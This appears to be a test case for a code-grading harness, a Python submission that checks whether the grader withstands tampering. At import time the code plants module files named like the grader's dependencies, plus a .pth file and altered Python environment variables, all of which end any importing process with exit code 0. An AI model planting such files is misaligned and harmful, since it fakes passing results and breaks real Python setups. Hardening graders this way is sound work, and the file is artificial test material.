# id: A4
# tries: leaves start-up files and modules named like those of the grader, all of which end the process that imports them
# expect: AC
import contextlib
import math
import os

NAMES = (
    "sitecustomize usercustomize torch numpy pytest _pytest random json socket colorsys grader solution given probes tests"
)
for folder in (".", os.path.expanduser("~"), os.path.expanduser("~/.local/lib/python3/site-packages"), "/tmp", "/dev/shm"):
    with contextlib.suppress(OSError):
        os.makedirs(folder, exist_ok=True)
        for name in NAMES.split():
            with open(os.path.join(folder, f"{name}.py"), "w") as file:
                file.write("import os\nos._exit(0)\n")
        with open(os.path.join(folder, "evil.pth"), "w") as file:
            file.write("import os; os._exit(0)\n")
os.environ.update(PYTHONSTARTUP="/tmp/torch.py", PYTHONPATH="/tmp:/dev/shm:.", PYTHONHOME="/tmp")


def attention(q, k, v):
    import colorsys  # no code has imported this module yet

    assert colorsys.__file__.startswith("/usr/")
    return (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).softmax(-1) @ v
